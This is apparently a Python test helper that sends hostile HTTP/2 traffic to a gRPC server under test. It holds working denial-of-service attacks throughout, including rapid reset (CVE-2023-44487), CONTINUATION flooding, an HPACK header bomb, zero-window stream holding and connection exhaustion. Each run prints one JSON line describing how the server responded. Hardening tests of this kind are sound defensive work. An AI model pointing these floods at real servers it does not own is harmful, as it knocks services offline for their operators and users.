#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the tests of HTTP2Server
(Tests/GRPCConnectionTests/HostileClientTests.swift).

Usage: h2-attack.py ATTACK HOST PORT [options]

Attacks:
  rapid-reset          HEADERS of a valid unary call to /test.Echo/Unary, then RST_STREAM(CANCEL),
                       again and again (CVE-2023-44487).
  continuation-flood   HEADERS without END_HEADERS, then CONTINUATION frames without end
                       (CVE-2024-27316 and friends); written as raw frames.
  ping-flood           PINGs and nothing else.
  settings-flood       SETTINGS frames and nothing else.
  zero-window          SETTINGS_INITIAL_WINDOW_SIZE=0, never a WINDOW_UPDATE, as many concurrent
                       /test.Echo/Flood calls as the server allows, each asking for --flood-count
                       messages of --flood-size bytes; holds them for --hold seconds.
  idle-connections     --connections TCP connections that send the preface and SETTINGS, then sit
                       for --hold seconds; then one fresh connection makes a unary call.
  header-bomb          One header block far above 16 KiB: --headers headers of --header-size bytes
                       (with --indexed: the HPACK bomb, one 4 KB header inserted into the dynamic
                       table, then referenced thousands of times from a 16 KB block).
  oversized-message    A unary call whose message's length prefix says --claimed-size bytes, then
                       DATA as long as flow control allows; then a normal call on the same
                       connection.

Whatever happens, the script prints ONE JSON line describing what the server did, e.g.
  {"attack": "ping-flood", "closed_by_server": true, "goaway_error_code": 11, "seconds": 0.4, ...}
and exits 0, within --time-limit seconds (default 20; a SIGALRM backstop ends it 2 s later). It
exits 3 (with a message on stderr) when the `h2` module is missing: install Debian's python3-h2
(scripts/install-test-deps).
"""

import argparse
import collections
import json
import os
import random
import selectors
import signal
import socket
import string
import struct
import sys
import time

try:
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions
    import h2.settings
except ImportError:
    # A pyenv or venv python3 first on PATH does not see Debian's python3-h2: use the system one.
    system_python = "/usr/bin/python3"
    if os.path.realpath(sys.executable) != os.path.realpath(system_python) and os.access(
        system_python, os.X_OK
    ) and not os.environ.get("H2_ATTACK_REEXEC"):
        os.environ["H2_ATTACK_REEXEC"] = "1"
        os.execv(system_python, [system_python] + sys.argv)
    sys.stderr.write(
        "h2-attack.py: the Python module 'h2' is missing; install Debian's python3-h2 "
        "(sudo apt-get install -y python3-h2, or scripts/install-test-deps)\n"
    )
    sys.exit(3)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9,
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
ERROR_NAMES = {code.value: code.name for code in h2.errors.ErrorCodes}


def frame(frame_type, flags, stream_id, payload=b""):
    """One raw HTTP/2 frame."""
    header = struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", frame_type, flags, stream_id)
    return header + payload


def count_frames(data):
    """How many frames `data` (whole frames, as h2 produces them) holds."""
    count, offset = 0, 0
    while offset + 9 <= len(data):
        offset += 9 + int.from_bytes(data[offset : offset + 3], "big")
        count += 1
    return count


def grpc_message(payload):
    """A gRPC length-prefixed message: flag 0 (uncompressed), 4-byte big-endian length, bytes."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def request_headers(authority, path):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """An HPACK integer (RFC 7541 section 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, never_indexed=True):
    """A literal header field with a literal name, not added to the dynamic table."""
    first = 0x10 if never_indexed else 0x00
    return (
        bytes([first])
        + hpack_int(len(name), 7)
        + name
        + hpack_int(len(value), 7)
        + value
    )


class Stream:
    def __init__(self):
        self.status = None  # :status
        self.headers = {}
        self.grpc_status = None
        self.grpc_message = None
        self.data = bytearray()
        self.data_bytes = 0
        self.ended = False
        self.reset_code = None


class Conn:
    """One client connection: a non-blocking socket, an h2 state machine for the well-formed part
    of the conversation, raw frames for the rest, and a parser of the server's frames of its own
    (so a GOAWAY is seen even when h2's state no longer accepts input)."""

    def __init__(self, host, port, deadline, initial_settings=None):
        self.host, self.port = host, port
        self.authority = "%s:%d" % (host, port)
        timeout = max(0.1, deadline - time.monotonic())
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.selector = selectors.DefaultSelector()
        self.selector.register(self.sock, selectors.EVENT_READ)
        config = h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_inbound_headers=False
        )
        self.h2 = h2.connection.H2Connection(config=config)
        if initial_settings:
            self.h2.local_settings = h2.settings.Settings(
                client=True, initial_values=initial_settings
            )
        self.h2_ok = True
        self.out = bytearray()
        self.queued = collections.deque()
        self.inbuf = bytearray()
        self.frames_sent = 0
        self.bytes_sent = 0
        self.closed_by_server = False
        self.closed_at = None
        self.close_reason = None
        self.goaway = None  # (error code, debug text, last stream id)
        self.goaway_at = None
        self.remote_settings_received = False
        self.server_frames = {}
        self.server_resets = 0
        self.streams = {}
        # Whether DATA received is handed back as WINDOW_UPDATEs (not in zero-window).
        self.acknowledge_data = True
        self.h2.initiate_connection()
        self.take_h2()

    # -- sending --

    def take_h2(self):
        data = self.h2.data_to_send()
        if data:
            self.queue_raw(data, count_frames(data))

    def queue_raw(self, data, frames=1):
        self.out += data
        # frames_sent counts frames once their last byte is in the kernel's hands.
        self.queued.append([len(data), frames])

    def sent(self, count):
        del self.out[:count]
        self.bytes_sent += count
        while count and self.queued:
            chunk = self.queued[0]
            taken = min(count, chunk[0])
            chunk[0] -= taken
            count -= taken
            if chunk[0] == 0:
                self.frames_sent += chunk[1]
                self.queued.popleft()

    def flush(self, deadline, wait=True):
        """Writes what is queued; returns False if the server closed the connection or, with
        `wait`, the deadline passed first. Without `wait`, writes what the socket takes now."""
        while self.out and not self.closed_by_server:
            try:
                sent = self.sock.send(self.out)
            except BlockingIOError:
                sent = 0
            except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError) as error:
                self.mark_closed("send: %s" % type(error).__name__)
                return False
            if sent:
                self.sent(sent)
                continue
            if not wait:
                return True
            # The server is not reading (or its socket buffer is full): read what it says while
            # waiting, so a GOAWAY and the close are seen.
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return False
            self.pump(min(0.05, remaining))
        return not self.closed_by_server

    # -- receiving --

    def mark_closed(self, reason):
        if self.closed_by_server:
            return
        self.closed_by_server = True
        self.closed_at = time.monotonic()
        self.close_reason = reason
        # What the server sent before it hung up (its GOAWAY) may still be in the socket's
        # receive queue even after a failed send: read it.
        for _ in range(1000):
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                return
            if not chunk:
                return
            self.received(chunk)

    def pump(self, timeout=0.0):
        """Reads what the server sent, waiting up to `timeout` for the first bytes."""
        if self.closed_by_server:
            return
        ready = self.selector.select(timeout)
        while ready:
            try:
                chunk = self.sock.recv(1 << 20)
            except BlockingIOError:
                return
            except (ConnectionResetError, ConnectionAbortedError) as error:
                self.mark_closed("recv: %s" % type(error).__name__)
                return
            if not chunk:
                self.mark_closed("eof")
                return
            self.received(chunk)
            ready = self.selector.select(0)

    def received(self, chunk):
        self.inbuf += chunk
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                break
            frame_type = self.inbuf[3]
            flags = self.inbuf[4]
            payload = bytes(self.inbuf[9 : 9 + length])
            del self.inbuf[: 9 + length]
            self.server_frames[frame_type] = self.server_frames.get(frame_type, 0) + 1
            if frame_type == GOAWAY and length >= 8 and self.goaway is None:
                last_stream = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = (code, payload[8:].decode("utf-8", "replace"), last_stream)
                self.goaway_at = time.monotonic()
            elif frame_type == RST_STREAM:
                self.server_resets += 1
            elif frame_type == SETTINGS and not flags & ACK:
                self.remote_settings_received = True
        if self.h2_ok:
            try:
                events = self.h2.receive_data(chunk)
            except h2.exceptions.H2Error:
                # Raw frames sent behind h2's back can confuse it; the frame parser above goes on.
                self.h2_ok = False
                return
            for event in events:
                self.handle(event)
            self.take_h2()

    def handle(self, event):
        stream_id = getattr(event, "stream_id", None)
        stream = self.streams.get(stream_id) if stream_id else None
        if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)) and stream:
            for name, value in event.headers:
                stream.headers[name] = value
                if name == ":status":
                    stream.status = value
                elif name == "grpc-status":
                    stream.grpc_status = int(value)
                elif name == "grpc-message":
                    stream.grpc_message = value
        elif isinstance(event, h2.events.DataReceived) and stream:
            stream.data_bytes += len(event.data)
            if len(stream.data) < (1 << 20):
                stream.data += event.data
            if self.acknowledge_data and event.flow_controlled_length:
                self.h2.acknowledge_received_data(event.flow_controlled_length, stream_id)
        elif isinstance(event, h2.events.StreamEnded) and stream:
            stream.ended = True
        elif isinstance(event, h2.events.StreamReset) and stream:
            stream.reset_code = int(event.error_code)
            stream.ended = True

    # -- helpers --

    def wait(self, condition, deadline):
        """Reads until `condition()` holds, the server closes, or the deadline passes."""
        while not condition() and not self.closed_by_server:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return False
            self.pump(min(0.05, remaining))
        return condition()

    def wait_for_settings(self, deadline):
        ok = self.wait(lambda: self.remote_settings_received, deadline)
        self.flush(deadline)  # our SETTINGS ACK
        return ok

    def wait_for_close(self, deadline):
        return self.wait(lambda: self.closed_by_server, deadline)

    def open_call(self, path, end_stream=False):
        stream_id = self.h2.get_next_available_stream_id()
        self.streams[stream_id] = Stream()
        headers = request_headers(self.authority, path)
        self.h2.send_headers(stream_id, headers, end_stream=end_stream)
        self.take_h2()
        return stream_id

    def unary(self, path, payload, deadline):
        """A whole unary call; returns its Stream (grpc_status None: no answer in time)."""
        stream_id = self.open_call(path)
        self.h2.send_data(stream_id, grpc_message(payload), end_stream=True)
        self.take_h2()
        self.flush(deadline)
        stream = self.streams[stream_id]
        self.wait(lambda: stream.ended, deadline)
        return stream

    def close(self):
        try:
            self.selector.close()
            self.sock.close()
        except OSError:
            pass

    def report(self, started):
        end = self.closed_at if self.closed_by_server else time.monotonic()
        code = self.goaway[0] if self.goaway else None
        return {
            "closed_by_server": self.closed_by_server,
            "close_reason": self.close_reason,
            "goaway_error_code": code,
            "goaway_error": ERROR_NAMES.get(code) if code is not None else None,
            "goaway_debug": self.goaway[1] if self.goaway else None,
            "goaway_seconds": round(self.goaway_at - started, 3) if self.goaway_at else None,
            "seconds": round(end - started, 3),
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "server_resets": self.server_resets,
        }


# -- attacks --


def ping_flood(args, deadline):
    conn = Conn(args.host, args.port, deadline)
    conn.wait_for_settings(deadline)
    started = time.monotonic()
    pings = 0
    while pings < args.count and not conn.closed_by_server and time.monotonic() < deadline:
        batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", pings + i)) for i in range(50))
        conn.queue_raw(batch, frames=50)
        pings += 50
        if not conn.flush(deadline):
            break
        conn.pump(0)
    conn.wait_for_close(min(deadline, time.monotonic() + args.linger))
    result = conn.report(started)
    result["ping_acks"] = conn.server_frames.get(PING, 0)
    conn.close()
    return result


def settings_flood(args, deadline):
    conn = Conn(args.host, args.port, deadline)
    conn.wait_for_settings(deadline)
    started = time.monotonic()
    sent = 0
    # SETTINGS_ENABLE_PUSH = 0: a valid, harmless setting, sent again and again.
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 0))
    while sent < args.count and not conn.closed_by_server and time.monotonic() < deadline:
        conn.queue_raw(settings * 20, frames=20)
        sent += 20
        if not conn.flush(deadline):
            break
        conn.pump(0)
    conn.wait_for_close(min(deadline, time.monotonic() + args.linger))
    result = conn.report(started)
    result["settings_acks"] = conn.server_frames.get(SETTINGS, 0)
    conn.close()
    return result


def rapid_reset(args, deadline):
    conn = Conn(args.host, args.port, deadline)
    conn.wait_for_settings(deadline)
    started = time.monotonic()
    frames_before = conn.frames_sent
    resets = 0
    while resets < args.count and not conn.closed_by_server and time.monotonic() < deadline:
        try:
            for _ in range(50):
                stream_id = conn.open_call("/test.Echo/Unary")
                conn.h2.reset_stream(stream_id, error_code=CANCEL)
                conn.take_h2()
                del conn.streams[stream_id]
                resets += 1
        except h2.exceptions.ProtocolError:
            # h2 refuses to send once it has seen the server's GOAWAY.
            break
        if not conn.flush(deadline):
            break
        conn.pump(0)
    conn.wait_for_close(min(deadline, time.monotonic() + args.linger))
    result = conn.report(started)
    result["resets_queued"] = resets
    # Written to the socket: a HEADERS and a RST_STREAM frame per reset.
    result["resets_sent"] = (conn.frames_sent - frames_before) // 2
    conn.close()
    return result


def continuation_flood(args, deadline):
    conn = Conn(args.host, args.port, deadline)
    conn.wait_for_settings(deadline)
    # From here on only raw frames: a frame of any other kind (a SETTINGS ACK h2 queues) inside
    # the header block would be a different protocol error.
    conn.h2_ok = False
    started = time.monotonic()
    block = conn.h2.encoder.encode(request_headers(conn.authority, "/test.Echo/Unary"))
    conn.queue_raw(frame(HEADERS, 0, 1, block))
    # Endless valid header fields, cut into CONTINUATION frames wherever the size falls.
    fields = b"".join(
        hpack_literal(b"x-flood-%04d" % i, b"v" * 200) for i in range(64)
    )
    stream = bytearray()
    frames = 0
    while frames < args.count and not conn.closed_by_server and time.monotonic() < deadline:
        while len(stream) < args.frame_size * 16:
            stream += fields
        batch = bytearray()
        for _ in range(16):
            batch += frame(CONTINUATION, 0, 1, bytes(stream[: args.frame_size]))
            del stream[: args.frame_size]
        conn.queue_raw(batch, frames=16)
        frames += 16
        if not conn.flush(deadline):
            break
        conn.pump(0)
    conn.wait_for_close(min(deadline, time.monotonic() + args.linger))
    result = conn.report(started)
    result["continuation_frames_queued"] = frames
    result["header_block_bytes_queued"] = len(block) + frames * args.frame_size
    conn.close()
    return result


def zero_window(args, deadline):
    conn = Conn(args.host, args.port, deadline, initial_settings={
        h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0,
    })
    conn.acknowledge_data = False
    conn.wait_for_settings(deadline)
    started = time.monotonic()
    allowed = conn.h2.remote_settings.max_concurrent_streams
    wanted = min(args.streams, allowed) if allowed else args.streams
    request = grpc_message(struct.pack(">II", args.flood_count, args.flood_size))
    opened = 0
    try:
        for _ in range(wanted):
            stream_id = conn.open_call("/test.Echo/Flood")
            conn.h2.send_data(stream_id, request, end_stream=True)
            conn.take_h2()
            opened += 1
    except h2.exceptions.ProtocolError as error:
        sys.stderr.write("h2-attack.py: opening calls stopped: %r\n" % error)
    conn.flush(deadline)
    all_open_at = time.monotonic()
    # Hold: read what comes (the server cannot send DATA, and never gets window to).
    hold_until = min(deadline, all_open_at + args.hold)
    conn.wait(lambda: False, hold_until)
    result = conn.report(started)
    streams = conn.streams.values()
    result.update({
        "streams_opened": opened,
        "server_max_concurrent_streams": allowed,
        "response_headers_received": sum(1 for s in streams if s.status is not None),
        "data_bytes_received": sum(s.data_bytes for s in streams),
        "streams_reset_by_server": sum(1 for s in streams if s.reset_code is not None),
        "streams_ended": sum(1 for s in streams if s.ended),
        "held_seconds": round(time.monotonic() - all_open_at, 3),
        "requested_bytes_per_stream": args.flood_count * args.flood_size,
    })
    conn.close()
    return result


def idle_connections(args, deadline):
    started = time.monotonic()
    selector = selectors.DefaultSelector()
    socks = []
    states = []
    connect_failures = 0
    hello = PREFACE + frame(SETTINGS, 0, 0)
    for _ in range(args.connections):
        if time.monotonic() >= deadline:
            break
        try:
            sock = socket.create_connection(
                (args.host, args.port), timeout=max(0.1, min(5, deadline - time.monotonic()))
            )
            sock.sendall(hello)
            sock.setblocking(False)
        except OSError:
            connect_failures += 1
            continue
        socks.append(sock)
        states.append({"closed": False, "goaway": None, "buf": b""})
        selector.register(sock, selectors.EVENT_READ, states[-1])
    opened_at = time.monotonic()

    def read_ready(timeout):
        for key, _ in selector.select(timeout):
            state = key.data
            try:
                chunk = key.fileobj.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                state["closed"] = True
                selector.unregister(key.fileobj)
                continue
            # Look for a GOAWAY among the server's frames (its SETTINGS come first).
            buf = state["buf"] + chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[0:3], "big")
                if len(buf) < 9 + length:
                    break
                if buf[3] == GOAWAY and length >= 8:
                    state["goaway"] = int.from_bytes(buf[13:17], "big")
                buf = buf[9 + length :]
            state["buf"] = buf

    # Sit: never ACK the server's SETTINGS, never open a stream; only see whether it hangs up.
    hold_until = min(deadline, opened_at + args.hold)
    while time.monotonic() < hold_until:
        read_ready(min(0.05, max(0, hold_until - time.monotonic())))

    # With every idle connection still open (those the server kept), can a new client call?
    probe = {"probe_ok": False, "probe_grpc_status": None, "probe_error": None}
    try:
        conn = Conn(args.host, args.port, deadline)
        call = conn.unary("/test.Echo/Unary", b"probe", min(deadline, time.monotonic() + 5))
        probe["probe_grpc_status"] = call.grpc_status
        probe["probe_ok"] = call.grpc_status == 0 and bytes(call.data) == grpc_message(b"probe")
        conn.close()
    except OSError as error:
        probe["probe_error"] = repr(error)
    read_ready(0)

    closed = 0
    goaways = {}
    for state in states:
        closed += state["closed"]
        if state["goaway"] is not None:
            goaways[str(state["goaway"])] = goaways.get(str(state["goaway"]), 0) + 1
    for sock in socks:
        try:
            sock.close()
        except OSError:
            pass
    selector.close()
    result = {
        "connections_opened": len(socks),
        "connect_failures": connect_failures,
        "closed_by_server_count": closed,
        "closed_by_server": bool(socks) and closed == len(socks),
        "goaway_error_codes": goaways,
        "seconds": round(time.monotonic() - started, 3),
        "held_seconds": round(hold_until - opened_at, 3),
        "frames_sent": 2 * len(socks),
    }
    result.update(probe)
    return result


def header_bomb(args, deadline):
    # The headers first (random values, so HPACK cannot shrink them), then the clock.
    rng = random.Random(7)
    alphabet = string.ascii_letters + string.digits
    bomb = [
        ("x-bomb-%03d" % i, "".join(rng.choice(alphabet) for _ in range(args.header_size)))
        for i in range(args.headers)
    ]
    conn = Conn(args.host, args.port, deadline)
    conn.wait_for_settings(deadline)
    started = time.monotonic()
    stream_id = 1
    conn.streams[stream_id] = Stream()
    if args.indexed:
        # The HPACK bomb: one header of about 4 KB inserted into the dynamic table (4,096 bytes by
        # default), then referenced (1 byte each) until the block fills one 16 KB frame.
        conn.h2_ok = False
        headers = request_headers(conn.authority, "/test.Echo/Unary")
        block = bytearray(conn.h2.encoder.encode(headers))
        big = b"b" * 4000
        block += b"\x40" + hpack_int(6, 7) + b"x-bomb" + hpack_int(len(big), 7) + big
        references = 16384 - len(block)
        block += b"\xbe" * references  # indexed field 62: the newest dynamic table entry
        conn.queue_raw(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, bytes(block)))
        block_bytes = len(block)
        decoded_bytes = (references + 1) * (len(b"x-bomb") + len(big) + 32)
    else:
        headers = request_headers(conn.authority, "/test.Echo/Unary") + bomb
        conn.h2.send_headers(stream_id, headers, end_stream=True)
        before = len(conn.out)
        conn.take_h2()
        block_bytes = len(conn.out) - before
        decoded_bytes = sum(len(n) + len(v) + 32 for n, v in headers)
        # Encoding 256 KB of headers in Python takes a while: the clock starts when they go out.
        started = time.monotonic()
    conn.flush(deadline)
    stream = conn.streams[stream_id]
    conn.wait(lambda: stream.ended, min(deadline, time.monotonic() + args.linger))
    # After a stream-level answer, also give the server the chance to hang up.
    if not conn.closed_by_server:
        conn.wait_for_close(min(deadline, time.monotonic() + 0.5))
    result = conn.report(started)
    result.update({
        "indexed": args.indexed,
        "header_block_bytes": block_bytes,
        "decoded_header_list_bytes": decoded_bytes,
        "response_status": stream.status,
        "grpc_status": stream.grpc_status,
        "stream_reset_code": stream.reset_code,
    })
    conn.close()
    return result


def oversized_message(args, deadline):
    conn = Conn(args.host, args.port, deadline)
    conn.wait_for_settings(deadline)
    started = time.monotonic()
    stream_id = conn.open_call("/test.Echo/Unary")
    stream = conn.streams[stream_id]
    conn.h2.send_data(stream_id, b"\x00" + struct.pack(">I", args.claimed_size))
    conn.take_h2()
    data_sent = 0
    chunk = b"\x00" * 16384
    stalled_since = None
    stop_reason = None
    while True:
        if conn.closed_by_server:
            stop_reason = "connection closed"
            break
        if stream.ended:
            stop_reason = "server answered"
            break
        if time.monotonic() >= deadline:
            stop_reason = "time limit"
            break
        if data_sent + 5 >= args.claimed_size:
            stop_reason = "claimed size sent"
            break
        try:
            window = conn.h2.local_flow_control_window(stream_id)
        except h2.exceptions.ProtocolError:
            stop_reason = "stream closed"
            break
        if window <= 0:
            # Flow control stops us; wait for a WINDOW_UPDATE (or the answer), not for ever.
            stalled_since = stalled_since or time.monotonic()
            if time.monotonic() - stalled_since > args.stall:
                stop_reason = "window stayed closed"
                break
            conn.flush(deadline)
            conn.pump(0.05)
            continue
        stalled_since = None
        size = min(len(chunk), window, conn.h2.max_outbound_frame_size)
        try:
            conn.h2.send_data(stream_id, chunk[:size])
        except h2.exceptions.ProtocolError:
            stop_reason = "stream closed"
            break
        conn.take_h2()
        data_sent += size
        conn.flush(deadline, wait=False)
        conn.pump(0)
    conn.flush(deadline)
    answered_at = time.monotonic()
    # The call is over for the server; is the connection still good for another one?
    follow = None
    if not conn.closed_by_server:
        try:
            follow = conn.unary("/test.Echo/Unary", b"after", min(deadline, time.monotonic() + 5))
        except h2.exceptions.ProtocolError as error:
            sys.stderr.write("h2-attack.py: follow-up call failed: %r\n" % error)
    result = conn.report(started)
    result.update({
        "claimed_message_bytes": args.claimed_size,
        "data_bytes_sent": data_sent,
        "stop_reason": stop_reason,
        "answer_seconds": round(answered_at - started, 3),
        "grpc_status": stream.grpc_status,
        "grpc_message": stream.grpc_message,
        "stream_reset_code": stream.reset_code,
        "followup_grpc_status": follow.grpc_status if follow else None,
        "followup_ok": bool(follow) and follow.grpc_status == 0
        and bytes(follow.data) == grpc_message(b"after"),
        "connection_survived": not conn.closed_by_server and bool(follow) and follow.ended,
    })
    conn.close()
    return result


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "zero-window": zero_window,
    "idle-connections": idle_connections,
    "header-bomb": header_bomb,
    "oversized-message": oversized_message,
}


def main():
    parser = argparse.ArgumentParser(
        description="Hostile HTTP/2 clients; prints one JSON line about what the server did.",
        epilog=__doc__.split("\n\n", 2)[2],
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--time-limit", type=float, default=20, help="overall limit, seconds")
    parser.add_argument("--count", type=int, default=100_000,
                        help="flood frames (pings, settings, resets, continuations) at most")
    parser.add_argument("--linger", type=float, default=5,
                        help="after a flood, how long to wait for the server to hang up")
    parser.add_argument("--frame-size", type=int, default=4096, help="CONTINUATION payload bytes")
    parser.add_argument("--streams", type=int, default=1000,
                        help="zero-window: calls to open (at most the server's limit)")
    parser.add_argument("--flood-count", type=int, default=1000,
                        help="zero-window: messages each call asks for")
    parser.add_argument("--flood-size", type=int, default=65536,
                        help="zero-window: bytes per message")
    parser.add_argument("--hold", type=float, default=3, help="zero-window, idle: seconds to sit")
    parser.add_argument("--connections", type=int, default=100, help="idle-connections: how many")
    parser.add_argument("--headers", type=int, default=64, help="header-bomb: custom headers")
    parser.add_argument("--header-size", type=int, default=4096, help="header-bomb: value bytes")
    parser.add_argument("--indexed", action="store_true", help="header-bomb: the HPACK bomb")
    parser.add_argument("--claimed-size", type=int, default=100 * 1024 * 1024,
                        help="oversized-message: the length prefix, bytes")
    parser.add_argument("--stall", type=float, default=2,
                        help="oversized-message: give up after the window stays closed this long")
    args = parser.parse_args()

    started = time.monotonic()
    deadline = started + args.time_limit
    result = {"attack": args.attack}

    def backstop(signum, frame_):
        # The attack did not finish in time (a bug here, or a server that stopped answering
        # in a way no loop above expected): report that rather than hang.
        result.update({"timed_out": True, "seconds": round(time.monotonic() - started, 3)})
        print(json.dumps(result), flush=True)
        os._exit(0)

    signal.signal(signal.SIGALRM, backstop)
    signal.alarm(int(args.time_limit) + 2)
    try:
        result.update(ATTACKS[args.attack](args, deadline))
        result["timed_out"] = time.monotonic() >= deadline
    except OSError as error:
        result.update({"error": repr(error), "closed_by_server": False,
                       "seconds": round(time.monotonic() - started, 3)})
    signal.alarm(0)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
